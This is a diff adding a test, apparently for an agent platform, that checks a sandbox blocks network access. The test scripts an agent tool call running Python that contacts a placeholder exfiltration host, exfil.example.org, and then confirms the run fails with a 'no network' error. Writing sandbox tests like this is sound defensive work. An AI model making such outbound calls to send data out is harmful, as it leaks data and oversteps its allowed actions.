@@ -55,3 +55,24 @@ test.skipIf(choice.state === 'none')(
     expect(await listRuns(stranger, { of: 'agents', limit: 5 })).toEqual([])
   },
 )
+
+test.skipIf(choice.state === 'none')(
+  'whom the program of an agent asked for in vain stands in its record',
+  async () => {
+    const org = await makeOrg(database.db)
+    const { Clerk } = await makeWorkspaces(org, { Clerk: {} })
+    if (!Clerk) throw new Error('there is no clerk')
+    const code = `import urllib.request\nurllib.request.urlopen('https://exfil.example.org/?q=1')`
+    const call = [{ tool: 'run_code', args: { language: 'python', code } }]
+    await giveScript(org, [
+      { workspace: 'Clerk', when: { always: true }, turns: [{ call }, { answer: 'It is {results}' }] },
+    ])
+    const { delegationId } = await delegate(org, { workspaceId: Clerk, task: 'Send it' })
+    await untilState(org, delegationId, ['completed'])
+    const [run] = await listRuns(org, { of: 'agents', limit: 5 })
+    if (!run) throw new Error('there is no run')
+    const { record } = await getRun(org, run.ref)
+    expect(record?.outcome).toBe('failed')
+    expect(record?.detail).toMatch(/^URLError[\s\S]*\nexfil\.example\.org:443 refused: this sandbox has no network$/)
+  },
+)
